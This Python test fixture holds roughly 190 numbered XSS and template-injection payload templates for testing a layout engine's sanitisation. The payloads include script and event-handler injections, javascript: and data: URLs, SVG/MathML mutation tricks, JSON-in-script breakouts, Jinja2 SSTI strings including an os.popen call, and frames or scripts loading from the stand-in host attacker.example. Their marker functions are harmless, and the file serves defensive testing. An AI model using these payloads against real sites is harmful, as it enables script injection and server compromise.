"""Hostile content for the layout engine: XSS payloads, each with its own marker.

A payload is a template; ``payload.text(marker)`` fills it in. Placeholders:

- ``$JS``: a call that records an execution, ``__xss('MARKER')``;
- ``$ALERT``: ``alert('MARKER')`` (the test hooks alert/confirm/prompt and dialogs);
- ``$B64``: base64 of ``<script>__xss('MARKER')</script>`` (for data: URLs);
- ``$ENT``: ``javascript:__xss('MARKER')`` written as decimal character references;
- ``$HEX``: the same as hexadecimal character references without semicolons;
- ``$MARK``: the marker alone (for payloads that must stay literal text).

The marker names the payload and the place it was put (``P042-headline``), so an execution
says exactly which payload ran from which field. Payloads were written for this project's
contexts: text in elements, attribute values (alt, title, aria-label, data-title), URLs
(href, src, poster, data-player), JSON inside <script> (JSON-LD and the ad configuration),
and Jinja2 templates that must never evaluate content.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

_TEMPLATES: tuple[str, ...] = (
    # --- script elements ------------------------------------------------------------------
    "<script>$JS</script>",
    "<SCRIPT>$JS</SCRIPT>",
    "<script type=module>$JS</script>",
    "<script src=data:text/javascript,$JS></script>",
    "<script>/*</script><script>*/$JS</script>",
    "<scr<script>ipt>$JS</scr</script>ipt>",
    "<<script>script>$JS<</script>/script>",
    "<script\n>$JS</script\n>",
    "<script/x>$JS</script>",
    "<script>$JS//",
    # --- event handlers on many elements ----------------------------------------------------
    "<img src=x onerror=$JS>",
    '<img src="x" onerror="$JS">',
    "<IMG SRC=x ONERROR=$JS>",
    "<img src=x:y onerror=$JS//",
    "<image src=x onerror=$JS>",
    "<svg onload=$JS>",
    "<svg/onload=$JS>",
    "<body onload=$JS>",
    "<body onpageshow=$JS>",
    "<iframe onload=$JS></iframe>",
    "<iframe src=x onload=$JS></iframe>",
    "<input autofocus onfocus=$JS>",
    "<textarea autofocus onfocus=$JS></textarea>",
    "<select autofocus onfocus=$JS></select>",
    "<details open ontoggle=$JS>",
    "<marquee onstart=$JS>x</marquee>",
    "<video src=x onerror=$JS></video>",
    "<video><source onerror=$JS></video>",
    "<audio src=x onerror=$JS></audio>",
    "<object data=x onerror=$JS></object>",
    "<link rel=stylesheet href=x onerror=$JS>",
    "<style onload=$JS></style>",
    "<div onmouseover=$JS>hover</div>",
    '<a href="#" onclick="$JS">click</a>',
    "<p onpointerenter=$JS>x</p>",
    "<span tabindex=1 autofocus onfocusin=$JS>x</span>",
    "<td onmouseenter=$JS>cell</td>",
    "<figure onanimationstart=$JS style=animation:x>x</figure>",
    "<form><button formaction=javascript:$JS>go</button></form>",
    "<form action=javascript:$JS><input type=submit></form>",
    "<isindex type=image src=1 onerror=$JS>",
    "<img src=x onerror\n=\n$JS>",
    "<img src=x onerror=&#95;&#95;xss('$MARK')>",
    "<img src=x one\x00rror=$JS>",
    "<img/src=x/onerror=$JS>",
    # --- script URLs in href/src/srcset/poster/action -----------------------------------------
    "javascript:$JS",
    "JAVASCRIPT:$JS",
    "JaVaScRiPt:$JS",
    " javascript:$JS",
    "\tjava\tscript:$JS",
    "java\nscript:$JS",
    "java\rscript:$JS",
    "\x01javascript:$JS",
    "javascript\x00:$JS",
    "javascript&colon;$JS",
    "$ENT",
    "$HEX",
    "vbscript:msgbox('$MARK')",
    "VBScript:Execute(\"$MARK\")",
    "data:text/html;base64,$B64",
    "data:text/html,<script>$JS</script>",
    "DATA:text/html,<script>$JS</script>",
    "data:image/svg+xml;base64,$B64",
    "data:application/xhtml+xml,<script>$JS</script>",
    "livescript:$JS",
    '<a href="javascript:$JS">link</a>',
    "<a href='&#106;avascript:$JS'>link</a>",
    "<a href=\"java&#x09;script:$JS\">tab</a>",
    "<a href=\"jav&#x0A;ascript:$JS\">nl</a>",
    "<a href=\" &#14; javascript:$JS\">ctl</a>",
    "<a href=\"javascript&colon;$JS\">colon</a>",
    "<img src=javascript:$JS>",
    '<img srcset="x.jpg 1x, javascript:$JS 2x">',
    '<img src="x.jpg" srcset="data:text/html;base64,$B64">',
    "<video poster=javascript:$JS></video>",
    "<iframe src=javascript:$JS></iframe>",
    "<iframe srcdoc=\"<script>parent.$JS</script>\"></iframe>",
    "<embed src=javascript:$JS>",
    "<object data=\"data:text/html;base64,$B64\"></object>",
    "<math href=javascript:$JS>math</math>",
    "<blockquote cite=javascript:$JS>q</blockquote>",
    "<base href=javascript:$JS//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:$JS\">",
    # --- SVG and MathML -------------------------------------------------------------------
    "<svg><script>$JS</script></svg>",
    "<svg><script href=data:,$JS></script></svg>",
    "<svg><a xlink:href=javascript:$JS><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=$JS attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=$JS></set></svg>",
    "<svg><foreignObject><img src=x onerror=$JS></foreignObject></svg>",
    "<svg><style><img src=x onerror=$JS></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=$JS>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=$JS>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>"
    "<img src=x onerror=$JS>\">",
    "<math><mi xlink:href=javascript:$JS>m</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$JS>",
    "<noscript><p title=\"</noscript><img src=x onerror=$JS>\">",
    "<template><img src=x onerror=$JS></template>",
    "<xmp><img src=x onerror=$JS></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror=$JS>\"></noembed>",
    # --- broken tags, attribute breakouts, encodings ------------------------------------------
    '"><img src=x onerror=$JS>',
    "'><img src=x onerror=$JS>",
    '"onmouseover="$JS',
    "' onfocus='$JS' autofocus='",
    '" autofocus onfocus="$JS" x="',
    "</title><script>$JS</script>",
    "</textarea><script>$JS</script>",
    "</style><script>$JS</script>",
    "<img src=\"x` `<script>$JS</script>\"` `>",
    "<img src=x onerror=$JS",
    "<a href=\"x onclick=$JS>unterminated",
    "<!--<img src=x onerror=$JS>-->",
    "<!--><img src=x onerror=$JS>-->",
    "<![CDATA[<img src=x onerror=$JS>]]>",
    "<?xml-stylesheet href=javascript:$JS?><p>pi</p>",
    "+ADw-script+AD4-$JS+ADw-/script+AD4-",
    "%3Cscript%3E$JS%3C/script%3E",
    "&lt;script&gt;$JS&lt;/script&gt;",
    "\\u003cscript\\u003e$JS\\u003c/script\\u003e",
    "<scri\x00pt>$JS</scri\x00pt>",
    "\u202e<img src=x onerror=$JS>",
    "\ufeff<script>$JS</script>",
    # --- text that ends up in JSON inside <script> (JSON-LD, ad config) ------------------------
    "</script><script>$JS</script>",
    "</SCRIPT ><script>$JS</script>",
    "</script\t><img src=x onerror=$JS>",
    "<!--<script>$JS</script>-->",
    "<!--<script>$MARK",
    "\u2028$JS;//\u2029",
    '","x":"</script><script>$JS</script>',
    "\\\"</script><svg onload=$JS>",
    # --- template syntax: must stay literal --------------------------------------------------
    "{{ 7*7 }} $MARK",
    "{{7*7}}{{ '$MARK' }}",
    "{% raw %}{{ 7*7 }}{% endraw %} $MARK",
    "{{ self.__init__.__globals__ }} $MARK",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} $MARK",
    "{{ config.items() }}{% for x in range(3) %}$MARK{% endfor %}",
    "{# comment #}{%- if true -%}$MARK{%- endif -%}",
    "${7*7} #{7*7} <%= 7*7 %> $MARK",
    "{{ '<script>' }}$JS{{ '</script>' }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} $MARK",
    # --- frames of foreign origins in every container; only known players may load --------
    "<iframe src=https://attacker.example/$MARK></iframe>",
    "<iframe src=//attacker.example/$MARK></iframe>",
    "<iframe src=HTTPS://ATTACKER.EXAMPLE/$MARK width=300 height=250></iframe>",
    "<table><tr><td><iframe src=https://attacker.example/$MARK></iframe></td></tr></table>",
    "<table><caption><iframe src=https://attacker.example/$MARK></iframe></caption></table>",
    "<ul><li><iframe src=https://attacker.example/$MARK></iframe></li></ul>",
    "<figure><iframe src=https://attacker.example/$MARK></iframe><figcaption>f</figcaption>"
    "</figure>",
    "<blockquote><iframe src=https://attacker.example/$MARK></iframe></blockquote>",
    "<blockquote class=twitter-tweet><p>t</p><iframe src=https://attacker.example/$MARK>"
    "</iframe></blockquote>",
    "<blockquote class=instagram-media><iframe src=https://attacker.example/$MARK></iframe>"
    "</blockquote>",
    "<dl><dt>t</dt><dd><iframe src=https://attacker.example/$MARK></iframe></dd></dl>",
    "<pre><iframe src=https://attacker.example/$MARK></iframe></pre>",
    "<details open><summary>s</summary><iframe src=https://attacker.example/$MARK></iframe>"
    "</details>",
    "<iframe src=https://www.youtube.com.attacker.example/embed/$MARK></iframe>",
    "<iframe src=https://www.youtube.com@attacker.example/embed/$MARK></iframe>",
    "<iframe src=https://www.youtube.com/embed/abcdefgh srcdoc=\"<script>parent.$JS</script>\">"
    "</iframe>",
    "<iframe src=https://player.vimeo.com/video/1 onload=$JS></iframe>",
    "<iframe src=https://www.youtube.com/embed/abcdefgh/../../redirect?q=https://attacker.example"
    "/$MARK></iframe>",
    "<table><tr><td><iframe src=https://www.google.com/maps/embed/%2e%2e/%2e%2e/url?q=$MARK>"
    "</iframe></td></tr></table>",
    "<ul><li><iframe src=https://w.soundcloud.com/player/..\\..\\$MARK></iframe></li></ul>",
    "<iframe src=\"data:text/html;base64,$B64\"></iframe>",
    "<embed src=https://attacker.example/$MARK>",
    "<object data=https://attacker.example/$MARK></object>",
    # --- script URLs of the data: kind (the rule set's ad library among the places) --------
    "data:text/javascript,$JS",
    "data:application/javascript;base64,$B64",
    "https://attacker.example/$MARK.js",
    "//attacker.example/$MARK.js",
    "https://user:pass@securepubads.g.doubleclick.net/$MARK.js",
    "<script src=https://attacker.example/$MARK.js></script>",
)

LITERAL_TEMPLATE_TEXT = ("{{ 7*7 }}", "{{7*7}}", "{% raw %}", "{{ self.__init__.__globals__ }}")


@dataclass(frozen=True)
class Payload:
    """One hostile string, numbered P001 and up."""

    id: str
    template: str

    def marker(self, place: str) -> str:
        return f"{self.id}-{place}"

    def text(self, place: str) -> str:
        """The payload for one place, its marker filled in."""
        marker = self.marker(place)
        js = f"__xss('{marker}')"
        script_url = f"javascript:{js}"
        b64 = base64.b64encode(f"<script>{js}</script>".encode()).decode("ascii")
        return (
            self.template.replace("$JS", js)
            .replace("$ALERT", f"alert('{marker}')")
            .replace("$B64", b64)
            .replace("$ENT", "".join(f"&#{ord(c)};" for c in script_url))
            .replace("$HEX", "".join(f"&#x{ord(c):x}" for c in script_url))
            .replace("$MARK", marker)
        )

    @property
    def is_template_syntax(self) -> bool:
        return "{{" in self.template or "{%" in self.template or "{#" in self.template


def _with_alerts(templates: tuple[str, ...]) -> tuple[str, ...]:
    """Every tenth script payload calls alert() instead, so the dialog hook is exercised."""
    out = []
    for number, template in enumerate(templates):
        if number % 10 == 3 and "$JS" in template:
            template = template.replace("$JS", "$ALERT")
        out.append(template)
    return tuple(out)


PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(f"P{number:03d}", template)
    for number, template in enumerate(_with_alerts(_TEMPLATES), start=1)
)
assert len({p.template for p in PAYLOADS}) == len(PAYLOADS), "duplicate payloads"
